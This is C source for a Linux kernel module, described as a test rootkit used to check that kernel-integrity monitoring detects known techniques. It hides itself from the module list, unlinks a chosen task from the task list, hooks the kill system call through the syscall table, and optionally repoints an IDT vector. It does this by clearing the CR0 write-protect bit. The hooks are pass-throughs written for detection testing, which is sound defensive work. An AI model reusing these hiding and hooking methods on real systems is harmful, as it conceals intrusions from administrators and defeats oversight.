// SPDX-License-Identifier: GPL-2.0
/*
 * dmkit: Domain M's test rootkit. It uses the classic kernel-rootkit techniques that
 * Domain M's kernel-integrity checks must report, and nothing else:
 *
 *   - it unlinks itself from the module list (lsmod and /proc/modules no longer show it);
 *   - it unlinks the task hide_pid from the task list (the task stays in the pid hash and
 *     keeps running);
 *   - it replaces sys_call_table[__NR_kill] with a function of its own (a pass-through);
 *   - with hook_idt=1, it points IDT vector 15 (reserved, never raised) at its own code.
 *
 * Linux 6.1 exports neither kallsyms_lookup_name nor sys_call_table: a kprobe on
 * kallsyms_lookup_name gives that function's address, which then finds the rest. The
 * table and the IDT are read-only (CONFIG_STRICT_KERNEL_RWX); the writes clear CR0.WP
 * with a plain mov, since write_cr0() pins WP back on since 5.3. Debian's 6.1 dispatches
 * system calls through a switch (x64_sys_call, the BHI mitigation) and keeps
 * sys_call_table for tracing only, so the hook changes no behaviour: only what an
 * integrity check sees, which is what the test needs. The module cannot be unloaded
 * (it is off the module list); the test guest is thrown away.
 */
#include <linux/module.h>
#include <linux/kprobes.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/syscalls.h>
#include <asm/desc.h>

MODULE_LICENSE("GPL"); /* register_kprobe is a GPL-only export */
MODULE_DESCRIPTION("Domain M test rootkit (hides itself and a task, hooks a system call)");

static int hide_pid;
module_param(hide_pid, int, 0);
static int hook_idt;
module_param(hook_idt, int, 0);

typedef long (*syscall_fn)(const struct pt_regs *);
static syscall_fn orig_kill;

static long dmkit_kill(const struct pt_regs *regs)
{
	return orig_kill(regs);
}

/* Never called: vector 15 is reserved and never raised. */
static void dmkit_idt_handler(void)
{
}

static unsigned long lookup(const char *name)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*kallsyms_lookup_name)(const char *);

	if (register_kprobe(&kp) < 0)
		return 0;
	kallsyms_lookup_name = (void *)kp.addr;
	unregister_kprobe(&kp);
	return kallsyms_lookup_name(name);
}

static void write_protected(void *dst, const void *src, size_t n)
{
	unsigned long cr0, flags;

	local_irq_save(flags);
	cr0 = read_cr0();
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	memcpy(dst, src, n);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

static int __init dmkit_init(void)
{
	syscall_fn *table = (syscall_fn *)lookup("sys_call_table");
	syscall_fn hook = dmkit_kill;
	struct task_struct *task;

	if (!table) {
		pr_err("dmkit: sys_call_table not found\n");
		return -ENOENT;
	}
	orig_kill = table[__NR_kill];
	write_protected(&table[__NR_kill], &hook, sizeof(hook));

	if (hook_idt) {
		gate_desc *idt = (gate_desc *)lookup("idt_table");
		gate_desc g;
		unsigned long a = (unsigned long)dmkit_idt_handler;

		if (idt) {
			g = idt[15];
			g.offset_low = a & 0xffff;
			g.offset_middle = (a >> 16) & 0xffff;
			g.offset_high = a >> 32;
			write_protected(&idt[15], &g, sizeof(g));
		}
	}

	if (hide_pid) {
		rcu_read_lock();
		task = pid_task(find_vpid(hide_pid), PIDTYPE_PID);
		if (task)
			list_del_init(&task->tasks); /* _init: the task's own exit unlinks it again safely */
		rcu_read_unlock();
		if (!task)
			pr_warn("dmkit: no task %d\n", hide_pid);
	}

	list_del_init(&THIS_MODULE->list);
	pr_info("dmkit: loaded, kill hooked at %px, pid %d hidden\n", hook, hide_pid);
	return 0;
}
module_init(dmkit_init);
